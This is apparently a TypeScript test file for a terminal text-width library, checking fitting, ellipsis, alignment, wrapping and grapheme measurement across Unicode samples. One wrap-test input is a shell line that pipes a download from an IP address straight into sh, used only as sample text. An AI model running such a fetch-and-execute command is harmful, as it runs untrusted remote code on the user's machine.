import assert from 'node:assert/strict';
import {afterEach, test} from 'node:test';
import {setCharset} from '../../source/text/charset.js';
import {own, safe} from '../../source/text/safe.js';
import {type Fit, fit as fitted, graphemes, widthOf, wrap} from '../../source/text/width.js';
import {asciiGlyphs} from '../../source/ui/frame/glyphs.js';

afterEach(() => setCharset('unicode'));

const samples = [
	'',
	'abc',
	'naïve',
	'日本語',
	'│ a … ─',
	'👍 ok',
	'e\u0301x',
	'▁▂█ ● ✖ ⇢',
	'한국어',
	'मस्',
	'🇩🇪x',
	'⚠ ☠',
	'∀ ≠',
];

test('a fitted text is exactly as wide as asked, whatever is cut where', () => {
	const ways: Fit[] = [];
	for (const align of ['left', 'right', 'center'] as const) {
		for (const cut of ['start', 'middle', 'end'] as const) {
			ways.push({align, cut});
		}
	}
	for (const text of [...samples, 'api-7d9f8c-x2k4j', '日本語日本語日本語', 'a日b本c語d']) {
		for (let width = 0; width < 24; width++) {
			for (const way of ways) {
				assert.equal(widthOf(fitted(safe(text), width, way)), width, `${text} ${width} ${JSON.stringify(way)}`);
			}
		}
	}
});

test('what is cut leaves an ellipsis where it was', () => {
	const pod = own('api-7d9f8c-x2k4j');
	assert.equal(fitted(pod, 10), 'api-7d9f8…');
	assert.equal(fitted(pod, 10, {cut: 'start'}), '…f8c-x2k4j');
	assert.equal(fitted(pod, 10, {cut: 'middle'}), 'api-7…2k4j');
	assert.equal(fitted(pod, 10, {ellipsis: own('>')}), 'api-7d9f8>');
	assert.equal(fitted(pod, 16), pod);
	setCharset('ascii');
	assert.equal(fitted(pod, 10), 'api-7d9f..');
	assert.equal(fitted(pod, 1), '.');
});

test('a wide character is left out rather than split', () => {
	assert.equal(fitted(own('日本語'), 4), '日… ');
	assert.equal(fitted(own('日本語'), 1), '…');
	assert.equal(fitted(own('日'), 1), '…');
});

test('shorter texts stand where they are told', () => {
	assert.equal(fitted(own('ab'), 5), 'ab   ');
	assert.equal(fitted(own('ab'), 5, {align: 'right'}), '   ab');
	assert.equal(fitted(own('ab'), 5, {align: 'center'}), ' ab  ');
});

test('wrapped rows fit, and together are the text', () => {
	assert.deepEqual(wrap(own('the quick brown fox'), 10), ['the quick', 'brown fox']);
	assert.deepEqual(wrap(own('abcdefghij'), 4), ['abcd', 'efgh', 'ij']);
	assert.deepEqual(wrap(own(''), 4), ['']);
	assert.deepEqual(wrap(own('日本語'), 1), ['日', '本', '語']);
	for (const text of [...samples, 'curl -s http://203.0.113.9/x | sh -x  two', 'a日b 本c語d 日本語日本語']) {
		for (let width = 2; width < 12; width++) {
			const rows = wrap(safe(text), width);
			for (const row of rows) {
				assert.ok(widthOf(row) <= width, `${text} ${width}`);
			}
			assert.equal(rows.join('').replaceAll(' ', ''), safe(text).replaceAll(' ', ''));
		}
	}
});

test('graphemes are what a reader counts', () => {
	assert.deepEqual(graphemes('e\u0301日👍a'), ['e\u0301', '日', '👍', 'a']);
	assert.equal(widthOf(asciiGlyphs.ellipsis), 2);
});

test('more graphemes than the cache holds are measured like the first', () => {
	for (let round = 0; round < 2; round++) {
		for (let code = 0x4e_00; code < 0x4e_00 + 5000; code++) {
			const text = `${String.fromCodePoint(code)}é`;
			assert.equal(widthOf(text), 3, text);
		}
	}
});
